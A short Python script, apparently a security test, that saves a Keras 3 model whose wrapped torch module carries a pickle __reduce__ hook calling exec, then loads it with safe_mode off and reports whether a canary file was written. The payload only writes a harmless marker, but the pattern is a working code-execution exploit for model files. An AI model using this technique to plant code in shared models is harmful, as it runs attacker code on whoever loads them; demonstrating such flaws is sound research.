"""Write `torch_module.keras`, whose TorchModuleWrapper holds a pickle that writes a canary, and show that it does.

`python malicious_torch_module.py FOLDER`, a process of its own: Keras 3 on torch, without TensorFlow. Prints what a
naive loading did.
"""

import os
import sys
from pathlib import Path
from typing import Any


def main() -> None:
    """Write the file into the folder that is the first argument, and load it."""
    os.environ["KERAS_BACKEND"] = "torch"
    import keras
    import torch

    folder = Path(sys.argv[1])
    canary = folder / "torch_canary"

    class Biting(torch.nn.Module):
        def forward(self, images: torch.Tensor) -> torch.Tensor:
            return images.mean((1, 2))

        def __reduce__(self) -> tuple[Any, ...]:
            return exec, (f"open({str(canary)!r}, 'w').write('bitten')",)

    inputs = keras.Input((8, 8, 3))
    layer = keras.layers.TorchModuleWrapper(Biting(), name="bite", output_shape=(None, 3))
    model = keras.Model(inputs, keras.layers.Dense(2)(layer(inputs)), name="net")
    model.save(folder / "torch_module.keras")
    canary.unlink(missing_ok=True)
    try:
        keras.models.load_model(folder / "torch_module.keras", safe_mode=False)
    except Exception as error:  # what was unpickled is no module
        print(f"{type(error).__name__}: {error}", file=sys.stderr)
    print("bitten" if canary.exists() else "harmless")
    canary.unlink(missing_ok=True)


if __name__ == "__main__":
    main()
